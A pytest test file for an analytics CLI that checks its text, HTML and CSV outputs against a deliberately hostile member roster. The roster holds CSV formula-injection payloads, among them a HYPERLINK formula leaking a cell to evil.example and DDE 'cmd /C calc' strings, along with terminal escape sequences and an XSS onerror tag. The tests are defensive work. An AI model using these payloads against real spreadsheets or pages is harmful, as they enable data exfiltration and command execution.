"""Outputs safe to open, a role gate with no empty door, and one-line errors for odd arguments.

End to end: a landing folder of the six bundled captures plus a hostile members.csv (formula-like
teams, an API key name holding terminal escape sequences and HTML, the `'growth` / `ops'` pair, an
extra field, a stray quote); one real `analytics run`; then `analytics report` (text and HTML),
`analytics export` (CSV), the role gate, and every command with a table of odd arguments.
"""

from __future__ import annotations

import argparse
import csv
import re
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest

from analytics.report.export import read_export
from analytics.report.formatting import printable
from analytics.report.warehouse import MARTS
from tests.conftest import ANALYTICS, CAPTURES, inherited_environ, run_cli

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"
ESCAPES = "Build Bot\x1b[2J\x1b[1;1H<img src=x onerror=alert(1)> forged row  $999.99"
TODAY = datetime.now(UTC).date().isoformat()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")


def capture_user_ids() -> list[str]:
    """The user.id of each bundled capture, in capture order."""
    ids = []
    for folder in sorted(p for p in CAPTURES.iterdir() if p.is_dir()):
        text = (folder / "metrics.jsonl").read_text()
        found = re.search(r'"key":"user\.id","value":\{"stringValue":"([0-9a-f]{64})"', text)
        ids.append(found.group(1))
    return ids


def hostile_roster(ids: list[str]) -> str:
    def quoted(value: str) -> str:
        return '"' + value.replace('"', '""') + '"'

    return "".join(
        [
            "email,api_key_name,user_ids,team,role\n",
            f"owner@example.com,,{ids[0]},{quoted(HYPERLINK)},Primary Owner\n",
            f",{ESCAPES},{ids[1]},{AT_SUM},developer\n",
            f"user.one@example.com,,{ids[2]},'growth,User\n",             # line 4
            f"user.two@example.com,,{ids[3]},ops',Primary Owner\n",       # line 5
            f"dev@example.com,,{ids[4]},{MINUS_CMD},developer,extra\n",  # line 6: extra field
            f'stray@example.com,,{ids[5]},"growth,Primary Owner\n',      # line 7: stray quote
        ]
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    landing = root / "landing"
    shutil.copytree(CAPTURES, landing / "otlp" / "captures", ignore=shutil.ignore_patterns("*.md"))
    ids = capture_user_ids()
    (landing / "members.csv").write_text(hostile_roster(ids))
    env = inherited_environ()
    env.update(
        {
            "ANALYTICS_WAREHOUSE": str(root / "warehouse.duckdb"),
            "DAGSTER_HOME": str(root / "dagster_home"),
            "ANALYTICS_LANDING_DIR": str(landing),
            "DBT_SEND_ANONYMOUS_USAGE_STATS": "false",
        }
    )
    run = run_cli(env, "run")
    return {"env": env, "root": root, "run": run, "ids": ids}


def query(env, sql, params=None):
    con = duckdb.connect(env["ANALYTICS_WAREHOUSE"], read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def assert_one_line_error(result: subprocess.CompletedProcess, code: int = 2) -> str:
    assert result.returncode == code, (result.args, result.returncode, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("analytics: error: "), (result.args, result.stderr)
    assert "Traceback" not in result.stderr + result.stdout
    return lines[0]


def test_the_run_reads_the_hostile_roster(hostile):
    env, run = hostile["env"], hostile["run"]
    assert "roster: members.csv line 6: 6 fields, the header names 5; the 1 extra field(s) are ignored" in run.stderr
    assert "roster: 5 member row(s), 1 line(s) quarantined" in run.stderr
    assert query(env, "select source_file, source_line, signal, excerpt from raw.quarantine "
                      "where signal = 'roster'") == [("members.csv", 7, "roster", None)]
    members = {
        email: (team, role, can_view)
        for email, team, role, can_view in query(
            env, "select coalesce(email, api_key_name), team, role, can_view_analytics "
                 "from marts.dim_members where role is not null"
        )
    }
    assert members == {
        "owner@example.com": (HYPERLINK, "primary_owner", True),
        ESCAPES: (AT_SUM, "developer", True),
        "user.one@example.com": ("'growth", "user", False),  # still a User, two rows not merged
        "user.two@example.com": ("ops'", "primary_owner", True),
        "dev@example.com": (MINUS_CMD, "developer", True),
    }


def test_the_role_gate_refuses_users_and_empty_viewers(hostile):
    env = hostile["env"]
    refused = run_cli(env, "report", "--viewer", "user.one@example.com", check=False)
    assert assert_one_line_error(refused) == (
        "analytics: error: viewer user.one@example.com may not view analytics (role: user)"
    )
    for viewer in ("", "  "):
        for command in (("report",), ("export", str(hostile["root"] / f"empty{len(viewer)}"))):
            result = run_cli(env, *command, "--viewer", viewer, check=False)
            assert assert_one_line_error(result) == (
                "analytics: error: --viewer is empty: give the email of a member who may view analytics"
            )
            assert result.stdout == ""
    assert not (hostile["root"] / "empty0").exists() and not (hostile["root"] / "empty2").exists()
    refused_export = run_cli(env, "export", str(hostile["root"] / "no"), "--viewer",
                             "user.one@example.com", check=False)
    assert_one_line_error(refused_export)
    assert not (hostile["root"] / "no").exists()


def test_the_text_report_prints_no_escape_sequence(hostile):
    report = run_cli(hostile["env"], "report", "--viewer", "owner@example.com")
    assert "\x1b" not in report.stdout and "\x9b" not in report.stdout
    assert all(c == "\n" or c.isprintable() for c in report.stdout)
    shown = printable(ESCAPES)
    assert shown == "Build Bot<img src=x onerror=alert(1)> forged row  $999.99"
    rows = [line for line in report.stdout.splitlines() if shown in line]
    assert len(rows) == 1 and rows[0].startswith(f"  {shown}")  # one table row, in place
    assert report.stdout.count("forged row") == 1
    assert "owner@example.com" in report.stdout


def test_the_html_page_escapes_every_name(hostile):
    out = hostile["root"] / "page.html"
    run_cli(hostile["env"], "report", "--viewer", "owner@example.com", "--html", str(out))
    html = out.read_text()
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_csv_exports_hold_no_formula(hostile):
    env, out = hostile["env"], hostile["root"] / "exports"
    run_cli(env, "export", str(out), "--viewer", "owner@example.com")
    cells = {}
    for mart in MARTS:
        with (out / f"{mart}.csv").open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells.setdefault(cell, mart)
                    if cell.startswith(TRIGGERS):
                        assert PLAIN_NUMBER.fullmatch(cell), (mart, cell)
    assert cells["'" + HYPERLINK] == "dim_members"
    assert "'" + AT_SUM in cells and "'" + MINUS_CMD in cells
    assert "'growth" in cells and "ops'" in cells  # no trigger: unchanged
    # numbers stay numbers: a negative value in a numeric column is not prefixed
    con = duckdb.connect(env["ANALYTICS_WAREHOUSE"], read_only=True)
    try:
        for mart in MARTS:
            exported = sorted(read_export(con, out / f"{mart}.csv", mart).fetchall(), key=repr)
            assert exported == sorted(con.execute(f"select * from marts.{mart}").fetchall(), key=repr)
    finally:
        con.close()


def odd_arguments(root: Path) -> list[tuple[str, ...]]:
    a_file = root / "a-file"
    a_file.write_text("not a folder")
    gen = ("generate", str(root / "gen"))
    return [
        (),
        ("bogus",),
        ("report", "--month", "0001-01"),
        ("report", "--month", "2026-13"),
        ("report", "--month", "2026-00"),
        ("report", "--month", "9999-12"),
        ("report", "--month", "November"),
        ("report", "--start", "2026-11-31"),
        ("report", "--start", "2026-02-30", "--end", "2026-03-01"),
        ("report", "--start", "1900-01-01"),
        ("report", "--start", "9999-12-31"),
        ("report", "--start", "0000-01-01"),
        ("report", "--end", "2026-11-24"),
        ("report", "--start", "2026-11-20", "--end", "2026-11-01"),
        ("report", "--bogus"),
        ("export",),
        ("export", str(root / "x"), "--format", "xls"),
        ("export", str(a_file)),
        ("run", "--start", "0001-01-01"),
        ("run", "--start", "2026-11-31"),
        ("run", "--start", "9999-01-01"),
        ("run", "--end", "2026-13-01"),
        ("run", "--start", "yesterday"),
        ("run", "--start", "2026-11-25", "--end", "2026-11-24"),
        ("run", "--engine", "excel"),
        (*gen, "--members", "0", "--days", "3"),
        (*gen, "--members", "-5", "--days", "3"),
        (*gen, "--members", "1.5", "--days", "3"),
        (*gen, "--members", "many", "--days", "3"),
        (*gen, "--members", "1000000000", "--days", "3"),
        (*gen, "--members", "3", "--days", "0"),
        (*gen, "--members", "3", "--days", "-1"),
        (*gen, "--members", "3", "--days", "2.5"),
        (*gen, "--members", "3", "--days", "99999999"),
        (*gen, "--members", "3", "--days", "3", "--start", "2026-11-31"),
        (*gen, "--members", "3", "--days", "3", "--start", "1900-01-01"),
        (*gen, "--members", "3", "--days", "3", "--start", "2999-01-01"),
        (*gen, "--members", "3", "--days", "3", "--start", TODAY),
        (*gen, "--members", "3", "--days", "3", "--seed", "-1"),
        (*gen, "--members", "3", "--days", "3", "--seed", "x"),
        (*gen, "--days", "3"),
        ("ui", "--port", "0"),
        ("ui", "--port", "70000"),
        ("ui", "--port", "http"),
    ]


def test_every_command_gives_one_line_for_odd_arguments(hostile):
    env, root = hostile["env"], hostile["root"]
    messages = {}
    for args in odd_arguments(root):
        result = subprocess.run(
            [str(ANALYTICS), *args], env=env, capture_output=True, text=True, timeout=120,
            check=False,
        )
        messages[args] = assert_one_line_error(result)
    assert not (root / "gen").exists() and not (root / "x").exists()

    def said(*args):
        return messages[args].removeprefix("analytics: error: ")

    assert said("report", "--month", "0001-01") == (
        "--month '0001-01' is out of range: give a month from 2020-01 to "
        + said("report", "--month", "9999-12").rsplit(" to ", 1)[1]
    )
    assert said("report", "--month", "2026-13") == "--month '2026-13' is not a month: there is no month 13 (01 to 12)"
    assert said("report", "--start", "2026-11-31") == "--start '2026-11-31' is not a date: November 2026 has 30 days"
    assert said("run", "--start", "2026-11-31") == "--start '2026-11-31' is not a date: November 2026 has 30 days"
    assert said("report", "--start", "2026-02-30", "--end", "2026-03-01") == (
        "--start '2026-02-30' is not a date: February 2026 has 28 days"
    )
    assert said("run", "--start", "yesterday") == "--start 'yesterday' is not a date of the form YYYY-MM-DD"
    assert said("report", "--start", "1900-01-01").startswith(
        "--start '1900-01-01' is out of range: give a day from 2020-01-01 to "
    )
    gen = ("generate", str(root / "gen"))
    assert said(*gen, "--members", "1.5", "--days", "3") == "argument --members: '1.5' is not a whole number"
    assert said(*gen, "--members", "0", "--days", "3") == "argument --members: 0 is out of range: 1 to 100,000"
    assert said(*gen, "--members", "3", "--days", "-1") == "argument --days: -1 is out of range: 1 to 3,660"
    assert said(*gen, "--members", "3", "--days", "3", "--start", "2999-01-01").startswith(
        "--start '2999-01-01' is out of range"
    )
    assert said(*gen, "--members", "3", "--days", "3", "--start", TODAY).endswith(
        "telemetry from the future is not valid"
    )
    assert said("ui", "--port", "70000") == "argument --port: 70000 is out of range: 1 to 65,535"
    assert said() == "the following arguments are required: command"


@pytest.mark.parametrize("name", ["raw.duckdb", "Marts.duckdb", "meta.db"])
def test_a_warehouse_named_like_one_of_its_schemas_is_refused_before_anything_runs(tmp_path, name):
    """DuckDB names the database after the file: `raw.duckdb` would make `raw.quarantine`
    ambiguous in every model and loader, and the run fail halfway with DuckDB's binder error."""
    env = dict(inherited_environ(), ANALYTICS_WAREHOUSE=str(tmp_path / name),
               DAGSTER_HOME=str(tmp_path / "home"))
    for args in (("run",), ("report",)):
        result = subprocess.run([str(ANALYTICS), *args], env=env, capture_output=True, text=True,
                                timeout=120, check=False)
        message = assert_one_line_error(result)
        assert message == (
            f"analytics: error: ANALYTICS_WAREHOUSE: a warehouse file may not be named {name!r}: "
            f"DuckDB would name the database {name.split('.')[0]!r}, like one of its schemas; "
            "choose another name (for example warehouse.duckdb)"
        )
    assert list(tmp_path.iterdir()) == []  # no warehouse, no run history


def test_an_unexpected_error_names_its_innermost_cause_in_one_line(monkeypatch, capsys):
    """Dagster wraps what fails while loading the definitions in an error whose message is the
    folder tree: the one line names what failed underneath, and the wrapper's type."""
    from analytics_cli import main as cli

    class WrapperError(Exception):
        pass

    def wrapped(args):
        try:
            raise ValueError("manifest.json: Expecting value: line 1 column 1")
        except ValueError as inner:
            raise WrapperError("├── __init__.py\n├── admin_api") from inner

    # a command whose function fails so: main's parser gives only that function
    command = argparse.Namespace(func=wrapped)
    monkeypatch.setattr(cli, "build_parser", lambda: argparse.Namespace(parse_args=lambda argv: command))
    assert cli.main([]) == 1
    err = capsys.readouterr().err
    assert err == (
        "analytics: error: ValueError: manifest.json: Expecting value: line 1 column 1 "
        "(raised as WrapperError)\n"
    )
    # an error without a cause is told as before; an error raised while handling another,
    # without `from`, does not bring the other along (it may hold what was scrubbed)
    assert cli.describe_error(KeyError("k")) == "KeyError: 'k'"
    for suppress in (True, False):
        try:
            try:
                raise ValueError("password=hunter2")
            except ValueError:
                if suppress:
                    raise RuntimeError("scrubbed") from None
                raise RuntimeError("scrubbed")  # implicitly chained: the case under test
        except RuntimeError as exc:
            assert cli.describe_error(exc) == "RuntimeError: scrubbed"
